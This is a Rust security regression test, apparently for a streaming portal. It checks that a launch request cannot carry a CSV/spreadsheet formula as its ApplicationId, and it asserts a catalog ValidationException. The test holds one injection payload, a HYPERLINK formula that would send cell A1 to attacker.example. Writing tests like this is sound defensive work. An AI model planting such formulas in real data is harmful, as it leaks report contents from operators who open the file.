//! Finding 17 (CSV part): a spreadsheet formula must not reach the usage reports operators
//! open. The portal's launch validates `ApplicationId` against the image's catalog, as
//! `CreateStreamingURL` does; the reports neutralise any cell that would start a formula
//! (`audit` crate, `attack_f17_report_cells_never_start_a_formula`).

use serde_json::json;

use crate::support::server::Server;

const PASSWORD: &str = "correct horse battery staple";

#[test]
fn f17_a_portal_launch_cannot_carry_a_formula_as_its_application() {
    let server = Server::start(&[]);
    server.ok("identity:CreateLocalUser", json!({ "UserName": "mallory", "Password": PASSWORD }));
    server.ok(
        "streaming:BatchAssociateUserStack",
        json!({ "UserStackAssociations": [{ "StackName": "datasandbox-stack", "UserName": "mallory", "AuthenticationType": "USERPOOL" }] }),
    );
    let endpoint = format!("http://{}", server.api);
    let signed = server.cli(
        &[
            "call",
            "identity:SignIn",
            "--input",
            &json!({ "UserName": "mallory", "Password": PASSWORD }).to_string(),
            "--endpoint",
            &endpoint,
        ],
        &[],
    );
    let token = signed.stdout["Token"].as_str().expect("token").to_owned();
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    let launched =
        server.call_as(&token, "streaming:CreateUserStreamingURL", &json!({ "StackName": "datasandbox-stack", "ApplicationId": formula }));
    assert_eq!(launched.exit, 1, "a formula was accepted as an application: {launched:?}");
    assert_eq!(launched.stderr["Code"], "ValidationException", "{launched:?}");
    assert!(launched.stderr["Message"].as_str().is_some_and(|m| m.contains("catalog")), "{launched:?}");
}
